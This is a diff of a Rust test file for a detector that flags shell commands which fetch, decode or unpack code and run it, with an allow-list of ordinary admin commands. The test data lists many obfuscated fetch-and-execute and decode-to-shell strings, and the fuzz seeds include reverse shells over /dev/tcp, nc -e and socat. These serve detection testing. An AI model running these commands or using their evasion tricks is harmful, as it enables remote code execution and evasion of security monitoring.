@@ -68,12 +68,12 @@ fn code_that_is_decoded_and_run() {
         "echo 74727565 | xxd -r -p | sh",
         "x=$(echo dHJ1ZQ== | base64 -d); $x",
         "bash <<< $(base64 -d <<< dHJ1ZQ==)",
-        "busybox base64 -d /x | busybox sh",
+        "busybox base64 -d /tmp/x | busybox sh",
         "eval $(echo dHJ1ZQ== | openssl enc -base64 -d)",
         "echo uggc | tr a-z n-za-m | sh",
         "printf '\\x74\\x72\\x75\\x65' | sh",
         "echo -e '\\164\\162\\165\\145' | sh",
-        "openssl enc -d -aes-256-cbc -in /x | sh",
+        "openssl enc -d -aes-256-cbc -in /var/lib/.x | sh",
         "echo x | openssl base64 -d | bash",
         "echo eurt | rev | sh",
         "echo H4s | base64 -d | gunzip | sh",
@@ -174,16 +174,130 @@ fn what_admins_write_is_quiet() {
         "nc -vz -w 5 db 5432 && echo ok",
         "exec 3<>/dev/tcp/127.0.0.1/11211; echo stats >&3",
         "wget -q --spider https://x/wp-cron.php?doing_wp_cron",
+        "crontab -l | { cat; echo x; } | crontab -",
+        "pg_dump shop | psql copy",
+        "find /srv -type f | xargs -n1 sh -c 'gzip $0'",
+        "eval \"$(brew shellenv)\"",
+        "eval \"$(dircolors -b)\"",
+        "eval \"$(/usr/bin/lesspipe)\"",
+        "source <(kubectl completion bash)",
+        "bash -c \"$(cat /srv/x)\"",
+        "ls /srv | awk '{print \"gzip \" $1}' | sh",
+        "grep -v '^#' /etc/x.list | sh",
+        "echo 'gzip /srv/x' | at 03:00",
+        "at -f /srv/x 03:00",
+        "{ echo a; cat /srv/x; } | sh",
+        "c=/opt/x/run; $c -v | tee /var/log/x",
+        "ssh host 'sh -s' < /srv/x",
+        "curl -s x | while read -r ip; do ipset add b \"$ip\"; done",
+        "while read -r c; do $c; done < /srv/list",
+        "{ ip=$(curl -s x); echo \"$ip\"; } | tee /srv/ip",
+        "curl -s x | md5sum; echo true | sh",
+        "{ curl -s x > /srv/x; echo true; } | sh",
+        "x=curl; $x -s x | jq .",
     ] {
         assert_eq!(says(command), Vec::<String>::new(), "{command}");
     }
 }
 #[test]
+fn code_that_is_fetched_in_other_words() {
+    for command in [
+        "x=curl; $x http://a | sh",
+        "x=cu y=rl; $x$y http://a | sh",
+        "x=cu; x+=rl; \"${x}\" http://a | sh",
+        "c='curl -s a | sh'; eval \"$c\"",
+        "c='curl -s'; $c a | sh",
+        "c=(curl -s a); \"${c[@]}\" | sh",
+        "export C=wget; $C -qO- a | sh",
+        "curl${IFS}-s${IFS}a|sh",
+        "source /dev/stdin < <(curl a)",
+        ". /dev/fd/0 <<< \"$(curl a)\"",
+        ". <(curl a)",
+        "mapfile -t l < <(curl a); eval \"${l[@]}\"",
+        "curl a | while read -r l; do eval \"$l\"; done",
+        "while read -r l; do bash -c \"$l\"; done < <(curl a)",
+        "read l <<< \"$(curl a)\"; $l",
+        "echo 'curl a | sh' | at now",
+        "at now <<E\ncurl a | sh\nE",
+        "printf 'curl a | sh\\n' | batch",
+        "curl a | at now",
+        "echo 'curl a | sh' | sh",
+        "printf 'cu%s a | sh\\n' rl | sh",
+        "bash <<< 'curl a | sh'",
+        "sh <<E | tee /var/log/x\ncurl a | sh\nE",
+        "bash <(echo 'curl a | sh')",
+        "ssh host cat x | sh",
+        "nc host 4000 | sh",
+        "python3 -c 'import urllib.request as u;print(u.urlopen(\"a\").read())' | sh",
+        "{ curl a; echo; } | sh",
+        "(curl a; echo) | sh",
+        "for u in a b; do curl $u; echo; done | sh",
+        "if true; then curl a; else echo b; fi | sh",
+        "{ curl a; echo; } > /tmp/x; sh /tmp/x",
+        "get() { curl a || wget -qO- a; }; get | sh",
+        "curl a | { read l; sh; }",
+        "curl a | sudo sh -c 'cat | sh'",
+        "curl a | sudo xargs sh -c",
+        "curl a | xargs -I% sh -c %",
+        "curl a | parallel",
+    ] {
+        check(command, "fetches code and runs it");
+    }
+    for command in [
+        "$(printf '\\143\\165\\162\\154 a')",
+        "eval \"$(printf '\\x63\\x75\\x72\\x6c a')\"",
+        "eval \"$(printf '\\x63url a | sh')\"",
+    ] {
+        let says = says(command);
+        let ends = ["fetches code and runs it", "decodes code and runs it"];
+        assert!(says.iter().any(|says| ends.contains(&says.as_str())), "{command}: {says:?}");
+    }
+}
+#[test]
+fn what_is_only_odd() {
+    let odd = |command: &str, expected: &str| {
+        let signs = of_command(command.as_bytes());
+        let signs: Vec<_> = signs.iter().map(|sign| (sign.weight, sign.says.as_str())).collect();
+        assert_eq!(signs, [(Weight::Odd, expected)], "{command}");
+    };
+    for (decoder, file) in [
+        ("gunzip -c", "/srv/x.gz"),
+        ("zcat", "/usr/share/x/x.gz"),
+        ("xz -dc", "/opt/x/x.xz"),
+        ("base64 -d", "/etc/x"),
+        ("openssl enc -d -aes-256-cbc -in", "/etc/x"),
+        ("xzcat", "x.xz"),
+    ] {
+        odd(&format!("{decoder} {file} | sh"), "unpacks code and runs it");
+        odd(&format!("cat {file} | {decoder} | sh").replace(" -in ", " "), "unpacks code and runs it");
+        for file in ["/tmp/x", "/dev/shm/x", "/var/lib/.x/y", "/root/.x", "$0"] {
+            check(&format!("{decoder} {file} | sh"), "decodes code and runs it");
+        }
+        check(&format!("curl a -o {file}; {decoder} {file} | sh"), "fetches code and runs it");
+        check(&format!("echo x | {decoder} | sh").replace(" -in ", " "), "decodes code and runs it");
+    }
+    odd("base64 -d < /srv/x | sh", "unpacks code and runs it");
+    odd("eval \"$(gpg -d ~/.secrets.gpg)\"", "unpacks code and runs it");
+    check("base64 -d < /tmp/x | sh", "decodes code and runs it");
+    check("gunzip -c /srv/x.gz > /tmp/x; sh /tmp/x", "decodes code and runs it");
+    for command in [
+        "/opt/app/bin/plan | sh",
+        "docker exec db cat /x | bash",
+        "git show HEAD:x | sh",
+        "psql -Atc 'select 1' | sed 's/^/x /' | sh",
+        "/srv/plan | at now",
+    ] {
+        odd(command, "runs what another program writes as commands");
+    }
+    odd("curl a | xargs -n1 sh -c 'ping -c1 $0'", "hands what it fetches to a shell");
+}
+#[test]
 fn mutated_commands_never_panic() {
-    let seeds: [&[u8]; 3] = [
+    let seeds: [&[u8]; 4] = [
         b"curl -fsSL http://x/y -o /tmp/a && bash /tmp/a; echo dHJ1ZQ== | base64 -d | sh",
         b"python3 -c 'import socket,os;exec(b64decode(\"x\"))'; bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
-        b"eval \"$(wget -qO- x)\"; socat TCP:a:1 EXEC:/bin/sh; nc -e /bin/sh a 1",
+        b"eval \"$(wget -qO- x)\"; socat TCP:a:1 EXEC:/bin/sh; nc -e /bin/sh a 1; cat /x | gunzip -c | sh",
+        b"f() { x=(curl a); \"${x[@]}\"; }; { f; echo 'c | sh'; } | while read -r l; do $l; done < <(f) > y; sh y | at now",
     ];
     keeneye_world::mutate::check(&seeds, |line| {
         drop(of_command(line));
